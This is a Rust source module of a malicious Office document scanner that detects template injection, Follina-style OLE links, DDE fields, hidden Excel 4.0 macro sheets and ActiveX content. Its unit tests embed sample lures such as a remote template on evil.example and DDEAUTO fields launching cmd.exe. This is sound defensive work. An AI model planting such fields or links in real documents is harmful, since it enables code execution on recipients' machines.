//! OOXML packages (ECMA-376 Part 2, Open Packaging Conventions): Word, Excel and PowerPoint 2007+.
//! The zip reader hands over every member; this decides which become children (binaries: the VBA
//! project, embedded objects, ActiveX controls, anything that is not XML or an image) and reads the XML
//! parts that matter: relationships that leave the package (remote templates T1221, external OLE
//! objects, frames), content types (macro-enabled or not), DDE fields (T1559.002), Excel 4.0 macro
//! sheets, and the document text for the lure detectors.

use super::{is_remote, xlm};
use crate::archive::Member;
use crate::xml::{entity, unescape};
use crate::{Node, Walk};
use quick_xml::events::Event;
use spearwatch_core::{technique as t, Severity};

/// Called by the zip reader when the package has `[Content_Types].xml` (ECMA-376 Part 2 OPC), with
/// every member it extracted. Decides which members become children of `node`.
pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, members: Vec<Member>) {
    let get = |name: &str| {
        members
            .iter()
            .find(|m| m.name.eq_ignore_ascii_case(name))
            .map(|m| m.data.as_slice())
    };
    let types = get("[Content_Types].xml")
        .map(content_types)
        .unwrap_or_default();
    let (format, macro_type) = describe(&types);
    let has_vba = members
        .iter()
        .any(|m| base(&m.name).eq_ignore_ascii_case("vbaProject.bin"));
    node.format = Some(if has_vba {
        format!("{format} with VBA project")
    } else {
        format.to_string()
    });
    macro_mismatch(node, macro_type, has_vba);

    for m in &members {
        if m.name.to_ascii_lowercase().ends_with(".rels") {
            relationships(node, &m.name, &m.data);
        }
    }
    dde(node, &members);
    macrosheets(
        node,
        &members,
        get("xl/workbook.xml"),
        get("xl/_rels/workbook.xml.rels"),
        get("xl/workbook.bin"),
    );
    text(node, &members);

    let mut activex = Vec::new();
    let embeddings: Vec<&str> = members
        .iter()
        .map(|m| m.name.as_str())
        .filter(|n| n.to_ascii_lowercase().contains("/embeddings/"))
        .collect();
    if !embeddings.is_empty() && !node.has("office.embedded_object") {
        node.flag(
            "office.embedded_object",
            Severity::Low,
            "Document embeds OLE objects or other files",
            &[t::EMBEDDED_PAYLOADS],
            embeddings.join(", "),
            format!("{} part(s) under embeddings/", embeddings.len()),
        );
    }
    for m in &members {
        if w.expired(node) {
            return;
        }
        let lower = m.name.to_ascii_lowercase();
        if lower.contains("/activex/") && lower.ends_with(".bin") {
            activex.push(m.name.as_str());
        }
        if is_child(&m.name, &m.data) {
            w.child(node, &m.name, &m.data);
        }
    }
    if !activex.is_empty() && !node.has("office.activex") {
        node.flag(
            "office.activex",
            Severity::Medium,
            "Document contains ActiveX controls",
            &[t::MALICIOUS_FILE],
            activex.join(", "),
            format!(
                "{} ActiveX control(s): their events can start macros without a click",
                activex.len()
            ),
        );
    }
}

fn base(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

/// Which members are worth a node of their own: binaries that can carry code or other documents. XML
/// parts, relationships, images, fonts, printer settings and signatures are read here or skipped.
fn is_child(name: &str, data: &[u8]) -> bool {
    let lower = name.to_ascii_lowercase();
    let b = base(&lower);
    if b == "vbaproject.bin"
        || lower.contains("/embeddings/")
        || lower.contains("/activex/") && b.ends_with(".bin")
    {
        return true;
    }
    let ext = b.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    if matches!(ext, "xml" | "rels" | "vml")
        || lower.starts_with("docprops/")
        || lower.starts_with("customxml/")
        || b.starts_with("printersettings")
        || b.starts_with("vbaprojectsignature")
        || data.is_empty()
    {
        return false;
    }
    if matches!(
        ext,
        "png"
            | "jpg"
            | "jpeg"
            | "gif"
            | "bmp"
            | "tif"
            | "tiff"
            | "emf"
            | "wmf"
            | "svg"
            | "ico"
            | "wdp"
            | "jxr"
            | "odttf"
            | "fntdata"
            | "ttf"
            | "sigs"
            | "psdsor"
            | "psdsxs"
    ) {
        return false;
    }
    // Anything else only when it is a file worth opening (an executable, script, archive, document
    // smuggled into the package), not the package's own XML in other encodings or binary parts (the
    // BIFF12 parts of .xlsb, XPS pages).
    use crate::Kind;
    !matches!(
        crate::kind::sniff(data, name),
        Kind::Unknown | Kind::Text | Kind::Png | Kind::Jpeg | Kind::Gif | Kind::Html
    )
}

/// `[Content_Types].xml`: Override PartName -> ContentType and Default Extension -> ContentType.
fn content_types(xml: &[u8]) -> Vec<(String, String)> {
    let mut v = Vec::new();
    elements(xml, |name, attrs| {
        if name == "Override" || name == "Default" {
            let key = attr(attrs, "PartName")
                .or_else(|| attr(attrs, "Extension"))
                .unwrap_or_default();
            if let Some(ct) = attr(attrs, "ContentType") {
                v.push((key, ct));
            }
        }
    });
    v
}

/// The package's kind by its main part's content type, and whether that type is macro-enabled.
fn describe(types: &[(String, String)]) -> (&'static str, bool) {
    let has = |s: &str| {
        types
            .iter()
            .any(|(_, ct)| ct.to_ascii_lowercase().contains(s))
    };
    let macro_type = has("macroenabled")
        || has("vnd.ms-excel.sheet.binary.macroenabled")
        || has("vnd.ms-excel.addin");
    let f = if has("wordprocessingml.template") || has("ms-word.template") {
        "Word template (OOXML)"
    } else if has("wordprocessingml.document") || has("ms-word.document") {
        "Word document (OOXML)"
    } else if has("spreadsheetml.template") || has("ms-excel.template") {
        "Excel template (OOXML)"
    } else if has("ms-excel.addin") {
        "Excel add-in (OOXML)"
    } else if has("ms-excel.sheet.binary") {
        "Excel binary workbook (xlsb)"
    } else if has("spreadsheetml.sheet") || has("ms-excel.sheet") {
        "Excel workbook (OOXML)"
    } else if has("presentationml.slideshow") || has("ms-powerpoint.slideshow") {
        "PowerPoint slide show (OOXML)"
    } else if has("presentationml.template") || has("ms-powerpoint.template") {
        "PowerPoint template (OOXML)"
    } else if has("presentationml.presentation") || has("ms-powerpoint.presentation") {
        "PowerPoint presentation (OOXML)"
    } else if has("xps-fixeddocumentsequence") || has("xps.fixeddocumentsequence") {
        "XPS document"
    } else if has("visio") {
        "Visio drawing (OOXML)"
    } else {
        "OOXML package"
    };
    (f, macro_type)
}

/// A macro-enabled package named like a macro-free one (or the other way round): Office refuses the
/// first and ignores the macros of the second, so the pairing is a sign of tampering or of a lure that
/// asks the user to rename the file.
fn macro_mismatch(node: &mut Node, macro_type: bool, has_vba: bool) {
    let ext = node
        .name
        .rsplit_once('.')
        .map(|(_, e)| e.to_ascii_lowercase())
        .unwrap_or_default();
    let macro_free_name = matches!(
        ext.as_str(),
        "docx" | "dotx" | "xlsx" | "xltx" | "pptx" | "potx" | "ppsx"
    );
    if macro_free_name && (macro_type || has_vba) {
        node.flag(
            "office.macro_extension_mismatch",
            Severity::Medium,
            "Macro-enabled Office content under a macro-free file extension",
            &[t::MASQUERADING],
            node.name.clone(),
            if macro_type {
                "the content type is macro-enabled but the name ends in .".to_string() + &ext
            } else {
                "vbaProject.bin present under a macro-free content type".to_string()
            },
        );
    }
}

/// One `<Relationship>` (ECMA-376 Part 2 §9.3).
#[derive(Debug, Clone, Default)]
pub(crate) struct Rel {
    pub id: String,
    pub typ: String,
    pub target: String,
    pub external: bool,
}

pub(crate) fn parse_rels(xml: &[u8]) -> Vec<Rel> {
    let mut v = Vec::new();
    elements(xml, |name, attrs| {
        if name == "Relationship" {
            v.push(Rel {
                id: attr(attrs, "Id").unwrap_or_default(),
                typ: attr(attrs, "Type").unwrap_or_default(),
                target: attr(attrs, "Target").unwrap_or_default(),
                external: attr(attrs, "TargetMode")
                    .is_some_and(|m| m.eq_ignore_ascii_case("External")),
            });
        }
    });
    v
}

/// External relationships: what the document fetches when it opens.
fn relationships(node: &mut Node, part: &str, xml: &[u8]) {
    let mut links = Vec::new();
    let mut remote_rels = Vec::new();
    for r in parse_rels(xml) {
        if !r.external {
            continue;
        }
        let kind = r.typ.rsplit('/').next().unwrap_or("").to_string();
        let remote = is_remote(&r.target);
        if remote && kind != "hyperlink" {
            remote_rels.push(format!("{kind} -> {}", r.target));
        }
        match kind.as_str() {
            "hyperlink" => links.push(r.target),
            // Remote template injection (T1221): Word fetches and runs the template's macros on open.
            "attachedTemplate" if remote => flag_once(
                node,
                "office.remote_template",
                Severity::Critical,
                "Document loads its template from a remote server (template injection)",
                &[t::TEMPLATE_INJECTION],
                &r.target,
                format!("{part} {}: attachedTemplate, TargetMode=External", r.id),
            ),
            "oleObject" if remote => {
                let l = r.target.to_ascii_lowercase();
                // `mhtml:...!x-usc:` (CVE-2021-40444) and an HTML target ending in "!" (CVE-2022-30190,
                // Follina) load an exploit through the OLE link, without a prompt.
                let exploit =
                    l.starts_with("mhtml:") || l.contains("!x-usc:") || l.trim_end().ends_with('!');
                flag_once(
                    node,
                    "office.external_ole",
                    if exploit {
                        Severity::Critical
                    } else {
                        Severity::High
                    },
                    if exploit {
                        "Document links an OLE object in the form used by MSHTML/MSDT exploits"
                    } else {
                        "Document links an OLE object from a remote server"
                    },
                    if exploit {
                        &[t::EXPLOITATION_FOR_CLIENT_EXECUTION, t::TEMPLATE_INJECTION]
                    } else {
                        &[t::TEMPLATE_INJECTION]
                    },
                    &r.target,
                    format!("{part} {}: oleObject, TargetMode=External", r.id),
                );
            }
            "frame" if remote => flag_once(
                node,
                "office.external_frame",
                Severity::High,
                "Document loads a frame from a remote server",
                &[t::TEMPLATE_INJECTION],
                &r.target,
                format!("{part} {}: frame, TargetMode=External", r.id),
            ),
            _ => {}
        }
    }
    // Every remote relationship but hyperlinks, whatever its type: what the document fetches when it
    // opens (the specific ones above say how dangerous the fetch is).
    if !remote_rels.is_empty() && !node.has("office.external_relationship") {
        node.flag(
            "office.external_relationship",
            Severity::Low,
            "Document fetches content from a remote server when it opens",
            &[t::TEMPLATE_INJECTION],
            remote_rels.join("; "),
            format!("{} external relationship(s) in {part}", remote_rels.len()),
        );
    }
    if !links.is_empty() {
        node.push_text(&links.join("\n"));
        for l in &links {
            node.push_link(l);
        }
        if !node.has("office.hyperlinks") {
            let n = links.len();
            links.truncate(5);
            node.flag(
                "office.hyperlinks",
                Severity::Info,
                "Document contains hyperlinks",
                &[],
                links.join(" "),
                format!("{n} external hyperlink relationship(s) in {part}"),
            );
        }
    }
}

fn flag_once(
    node: &mut Node,
    id: &str,
    sev: Severity,
    title: &str,
    techs: &[&str],
    value: &str,
    note: String,
) {
    if !node.has(id) {
        node.flag(id, sev, title, techs, value, note);
    }
}

/// DDE (T1559.002): Word field codes (`w:instrText` runs between `w:fldChar` begin and separate, and
/// `w:fldSimple w:instr`) and Excel `ddeLink` external links (ECMA-376 Part 1 §18.14.4).
fn dde(node: &mut Node, members: &[Member]) {
    for m in members {
        let lower = m.name.to_ascii_lowercase();
        if lower.starts_with("word/") && lower.ends_with(".xml") && !lower.contains("/_rels/") {
            for instr in field_instructions(&m.data) {
                let u = instr.trim_start().to_ascii_uppercase();
                if u.starts_with("DDEAUTO") || u.starts_with("DDE ") {
                    super::flag_dde(node, instr.trim(), u.starts_with("DDEAUTO"), &m.name);
                    return;
                }
            }
        }
        if lower.starts_with("xl/externallinks/") && lower.ends_with(".xml") {
            let mut found = None;
            elements(&m.data, |name, attrs| {
                if name == "ddeLink" && found.is_none() {
                    let service = attr(attrs, "ddeService").unwrap_or_default();
                    let topic = attr(attrs, "ddeTopic").unwrap_or_default();
                    found = Some(format!("{service}|{topic}"));
                }
            });
            if let Some(cmd) = found {
                super::flag_dde(node, &cmd, true, &m.name);
                return;
            }
        }
    }
}

/// Field instructions of a WordprocessingML part, each field's `instrText` runs joined.
fn field_instructions(xml: &[u8]) -> Vec<String> {
    let mut fields: Vec<String> = Vec::new();
    let mut cur: Option<String> = None;
    let mut in_instr = false;
    let mut r = reader(xml);
    loop {
        let ev = r.read_event();
        let is_start = matches!(ev, Ok(Event::Start(_)));
        match ev {
            Ok(Event::Start(e)) | Ok(Event::Empty(e)) => {
                let name = e.local_name();
                match name.as_ref() {
                    b"fldChar" => {
                        let typ = e
                            .attributes()
                            .flatten()
                            .find(|a| a.key.local_name().as_ref() == b"fldCharType")
                            .map(|a| a.value.into_owned())
                            .unwrap_or_default();
                        match typ.as_slice() {
                            b"begin" => {
                                if let Some(c) = cur.take() {
                                    fields.push(c);
                                }
                                cur = Some(String::new());
                            }
                            b"separate" | b"end" => {
                                if let Some(c) = cur.take() {
                                    fields.push(c);
                                }
                            }
                            _ => {}
                        }
                    }
                    b"instrText" => in_instr = is_start,
                    b"fldSimple" => {
                        if let Some(a) = e
                            .attributes()
                            .flatten()
                            .find(|a| a.key.local_name().as_ref() == b"instr")
                        {
                            fields.push(unescape(&a.value));
                        }
                    }
                    _ => {}
                }
            }
            Ok(Event::End(e)) if e.local_name().as_ref() == b"instrText" => in_instr = false,
            Ok(Event::Text(t)) if in_instr => {
                let s = unescape(t.as_ref());
                cur.get_or_insert_with(String::new).push_str(&s);
            }
            Ok(Event::GeneralRef(g)) if in_instr => {
                cur.get_or_insert_with(String::new)
                    .push_str(&entity(g.as_ref()));
            }
            Ok(Event::Eof) | Err(_) => break,
            _ => {}
        }
        if fields.len() > 10_000 {
            break;
        }
    }
    if let Some(c) = cur.take() {
        fields.push(c);
    }
    fields
}

/// Excel 4.0 macro sheets in OOXML: `xl/macrosheets/*` parts, their visibility from `xl/workbook.xml`,
/// and `Auto_Open` defined names (`_xlnm.Auto_Open` or a name beginning with Auto_Open).
fn macrosheets(
    node: &mut Node,
    members: &[Member],
    workbook: Option<&[u8]>,
    rels: Option<&[u8]>,
    workbook_bin: Option<&[u8]>,
) {
    let parts: Vec<&str> = members
        .iter()
        .map(|m| m.name.as_str())
        .filter(|n| {
            n.to_ascii_lowercase().starts_with("xl/macrosheets/")
                && !n.to_ascii_lowercase().contains("/_rels/")
        })
        .collect();
    // Relationship ids of macro sheets, looked up per `<sheet>` (both lists can be long).
    let macro_ids: std::collections::HashSet<String> = rels
        .map(parse_rels)
        .unwrap_or_default()
        .into_iter()
        .filter(|r| r.typ.to_ascii_lowercase().contains("macrosheet"))
        .map(|r| r.id)
        .collect();
    let mut sheets = Vec::new();
    let mut auto_open = Vec::new();
    if let Some(wb) = workbook {
        elements(wb, |name, attrs| {
            if name == "sheet" {
                let rid = attr(attrs, "id").unwrap_or_default();
                let is_macro = macro_ids.contains(&rid);
                if is_macro {
                    let state = match attr(attrs, "state").as_deref() {
                        Some("hidden") => 1,
                        Some("veryHidden") => 2,
                        _ => 0,
                    };
                    sheets.push(xlm::describe(
                        &attr(attrs, "name").unwrap_or_default(),
                        state,
                    ));
                }
            }
            if name == "definedName" {
                let n = attr(attrs, "name").unwrap_or_default();
                let l = n.to_ascii_lowercase();
                if l.starts_with("_xlnm.auto_open") || l.starts_with("auto_open") {
                    auto_open.push(n);
                }
            }
        });
    }
    if let Some(bin) = workbook_bin {
        // xlsb (MS-XLSB): names are UTF-16 in BrtName records; a substring search is enough here.
        let pat: Vec<u8> = "auto_open"
            .encode_utf16()
            .flat_map(|c| c.to_le_bytes())
            .collect();
        let lower: Vec<u8> = bin.iter().map(u8::to_ascii_lowercase).collect();
        if memchr::memmem::find(&lower, &pat).is_some() {
            auto_open.push("Auto_Open (xl/workbook.bin)".into());
        }
    }
    if sheets.is_empty() {
        sheets = parts.iter().map(|p| p.to_string()).collect();
    }
    xlm::report(
        node,
        &sheets,
        &auto_open,
        "xl/workbook.xml, xl/macrosheets/",
    );
}

/// Document text: Word runs (`w:t`), slide text (`a:t`), Excel shared strings (`t`).
fn text(node: &mut Node, members: &[Member]) {
    let mut parts: Vec<&Member> = members
        .iter()
        .filter(|m| {
            let l = m.name.to_ascii_lowercase();
            l == "word/document.xml"
                || (l.starts_with("word/")
                    && (l.contains("header") || l.contains("footer"))
                    && l.ends_with(".xml"))
                || (l.starts_with("ppt/slides/slide") && l.ends_with(".xml"))
                || l == "xl/sharedstrings.xml"
        })
        .collect();
    parts.sort_by_key(|m| (m.name.len(), m.name.clone()));
    for m in parts {
        if node.text.len() >= crate::node::MAX_TEXT {
            break;
        }
        let s = xml_text(&m.data, &[b"t"]);
        if !s.trim().is_empty() {
            node.push_text(&s);
        }
    }
}

/// Text inside elements with one of `tags` as local name; a newline after each paragraph (`p`) or
/// shared string item (`si`).
fn xml_text(xml: &[u8], tags: &[&[u8]]) -> String {
    let mut out = String::new();
    let mut depth = 0usize;
    let mut r = reader(xml);
    loop {
        match r.read_event() {
            Ok(Event::Start(e)) if tags.contains(&e.local_name().as_ref()) => depth += 1,
            Ok(Event::End(e)) => {
                let n = e.local_name();
                if tags.contains(&n.as_ref()) {
                    depth = depth.saturating_sub(1);
                } else if matches!(n.as_ref(), b"p" | b"si") {
                    out.push('\n');
                }
            }
            Ok(Event::Text(t)) if depth > 0 => out.push_str(&unescape(t.as_ref())),
            Ok(Event::GeneralRef(g)) if depth > 0 => out.push_str(&entity(g.as_ref())),
            Ok(Event::Eof) | Err(_) => break,
            _ => {}
        }
        if out.len() > crate::node::MAX_TEXT {
            break;
        }
    }
    out
}

fn reader(xml: &[u8]) -> quick_xml::Reader<&[u8]> {
    let mut r = quick_xml::Reader::from_reader(xml);
    let c = r.config_mut();
    c.check_end_names = false;
    c.allow_unmatched_ends = true;
    r
}

/// Calls `f(local name, attributes)` for every start or empty element; attributes by local name,
/// values unescaped. Stops quietly at malformed XML.
fn elements(xml: &[u8], mut f: impl FnMut(&str, &[(String, String)])) {
    let mut r = reader(xml);
    let mut n = 0usize;
    loop {
        match r.read_event() {
            Ok(Event::Start(e)) | Ok(Event::Empty(e)) => {
                let name = String::from_utf8_lossy(e.local_name().as_ref()).into_owned();
                let attrs: Vec<(String, String)> = e
                    .attributes()
                    .with_checks(false)
                    .flatten()
                    .map(|a| {
                        (
                            String::from_utf8_lossy(a.key.local_name().as_ref()).into_owned(),
                            unescape(&a.value),
                        )
                    })
                    .collect();
                f(&name, &attrs);
                n += 1;
                if n > 1_000_000 {
                    break;
                }
            }
            Ok(Event::Eof) | Err(_) => break,
            _ => {}
        }
    }
}

fn attr(attrs: &[(String, String)], name: &str) -> Option<String> {
    attrs
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.clone())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::office::ole::tests::ids;

    fn m(name: &str, data: &[u8]) -> Member {
        Member {
            name: name.into(),
            data: data.to_vec(),
        }
    }

    fn run(name: &str, members: Vec<Member>) -> Node {
        let opts = crate::Options::default();
        let mut w = Walk::new(&opts);
        let mut node = Node::new(name, name.into(), crate::Kind::Ooxml, 0, 0, 0);
        analyse(&mut w, &mut node, members);
        node
    }

    const DOCX_TYPES: &[u8] = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;

    #[test]
    fn remote_template_and_text() {
        let rels = br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
        let doc = br#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Enable editing &amp; content</w:t></w:r></w:p></w:body></w:document>"#;
        let n = run(
            "invoice.docx",
            vec![
                m("[Content_Types].xml", DOCX_TYPES),
                m("word/_rels/settings.xml.rels", rels),
                m("word/document.xml", doc),
            ],
        );
        assert_eq!(n.format.as_deref(), Some("Word document (OOXML)"));
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "office.remote_template")
            .unwrap();
        assert_eq!(f.severity, Severity::Critical);
        assert!(n.text.contains("Enable editing & content"));
        // A local template (the usual Normal.dotm path) is not a finding.
        let local = br#"<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/></Relationships>"#;
        let n = run(
            "a.docx",
            vec![
                m("[Content_Types].xml", DOCX_TYPES),
                m("word/_rels/settings.xml.rels", local),
            ],
        );
        assert!(n.findings.is_empty(), "{:?}", ids(&n));
    }

    #[test]
    fn dde_split_across_runs_and_fldsimple() {
        let doc = br#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
        let n = run(
            "a.docx",
            vec![
                m("[Content_Types].xml", DOCX_TYPES),
                m("word/document.xml", doc),
            ],
        );
        let f = n.findings.iter().find(|f| f.id == "office.dde").unwrap();
        assert!(f.evidence[0].value.starts_with("DDEAUTO"));
        let doc = br#"<w:document xmlns:w="w"><w:fldSimple w:instr=" DDE c:\\cmd.exe &quot;/k calc&quot; "/></w:document>"#;
        let n = run(
            "a.docx",
            vec![
                m("[Content_Types].xml", DOCX_TYPES),
                m("word/document.xml", doc),
            ],
        );
        assert!(n.has("office.dde"));
    }

    #[test]
    fn children_are_binaries_only_and_vba_is_found() {
        let macro_types = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
        let src = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nMsgBox \"hi\"\r\nEnd Sub\r\n";
        let vba = crate::office::ole::tests::word_with_macro(
            src,
            &[Some("AutoOpen"), Some("hi there"), Some("End Sub")],
        );
        let n = run(
            "report.docx",
            vec![
                m("[Content_Types].xml", macro_types),
                m("word/document.xml", b"<w:document/>"),
                m("word/media/image1.png", b"\x89PNG...."),
                m("word/vbaProject.bin", &vba),
                m("docProps/thumbnail.jpeg", b"\xff\xd8\xff"),
            ],
        );
        assert_eq!(n.children.len(), 1);
        assert_eq!(n.children[0].name, "word/vbaProject.bin");
        let found = ids(&n);
        assert!(
            found.contains(&"office.vba_macros".to_string()),
            "{found:?}"
        );
        assert!(found.contains(&"office.macro_extension_mismatch".to_string()));
    }

    #[test]
    fn broken_xml_never_panics() {
        let parts: &[&[u8]] = &[
            b"",
            b"<",
            b"<a b='",
            b"<?xml?><Relationships><Relationship Target=\"&#xFFFFFFFF;&bogus;\"",
            b"\xff\xfe<\x00a\x00",
            b"</w:t></w:t>",
        ];
        for p in parts {
            let names = [
                "[Content_Types].xml",
                "word/_rels/document.xml.rels",
                "word/document.xml",
                "xl/workbook.xml",
                "xl/externalLinks/externalLink1.xml",
                "ppt/slides/slide1.xml",
            ];
            let members = names.iter().map(|n| m(n, p)).collect();
            let _ = run("a.docx", members);
        }
    }

    #[test]
    fn follina_style_ole_link_is_critical_and_xlm_sheet_found() {
        let rels = br#"<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://x.example/a.html!" TargetMode="External"/></Relationships>"#;
        let n = run(
            "a.docx",
            vec![
                m("[Content_Types].xml", DOCX_TYPES),
                m("word/_rels/document.xml.rels", rels),
            ],
        );
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "office.external_ole")
            .unwrap();
        assert_eq!(f.severity, Severity::Critical);
        let wb = br#"<workbook><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="M1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M1!$A$1</definedName></definedNames></workbook>"#;
        let wbrels = br#"<Relationships><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>"#;
        let n = run(
            "a.xlsm",
            vec![
                m("[Content_Types].xml", b"<Types/>"),
                m("xl/workbook.xml", wb),
                m("xl/_rels/workbook.xml.rels", wbrels),
                m("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
            ],
        );
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "office.xlm_macro")
            .unwrap();
        assert!(f.evidence[0].value.contains("M1 (very hidden)"));
        assert!(n.has("office.xlm_auto_open"));
    }

    #[test]
    fn ampersand_runs_without_semicolons_stay_linear() {
        assert_eq!(
            unescape(b"a &amp; b &#x41; &bogus c &"),
            "a & b A &bogus c &"
        );
        let mut rels = br#"<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" TargetMode="External" Target="http://evil.example/"#.to_vec();
        rels.extend(std::iter::repeat_n(b'&', 1 << 20));
        rels.extend_from_slice(br#""/></Relationships>"#);
        let t = std::time::Instant::now();
        let n = run(
            "a.docx",
            vec![
                m("[Content_Types].xml", DOCX_TYPES),
                m("word/_rels/settings.xml.rels", &rels),
            ],
        );
        assert!(t.elapsed().as_secs_f64() < 1.0, "{:?}", t.elapsed());
        assert!(n.has("office.remote_template"), "{:?}", ids(&n));
    }

    #[test]
    fn many_sheets_and_relationships_stay_linear() {
        let mut wb = String::from("<workbook><sheets>");
        let mut rels = String::from("<Relationships>");
        for i in 0..30_000 {
            wb.push_str(&format!(
                r#"<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>"#
            ));
            rels.push_str(&format!(
                r#"<Relationship Id="rId{i}" Type="x/worksheet" Target="worksheets/sheet{i}.xml"/>"#
            ));
        }
        wb.push_str(
            r#"<sheet name="M" sheetId="0" state="hidden" r:id="rIdM"/></sheets></workbook>"#,
        );
        rels.push_str(r#"<Relationship Id="rIdM" Type="x/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>"#);
        let t = std::time::Instant::now();
        let n = run(
            "a.xlsm",
            vec![
                m("[Content_Types].xml", b"<Types/>"),
                m("xl/workbook.xml", wb.as_bytes()),
                m("xl/_rels/workbook.xml.rels", rels.as_bytes()),
            ],
        );
        assert!(t.elapsed().as_secs_f64() < 1.0, "{:?}", t.elapsed());
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "office.xlm_macro")
            .unwrap();
        assert_eq!(f.evidence[0].value, "M (hidden)");
    }
}
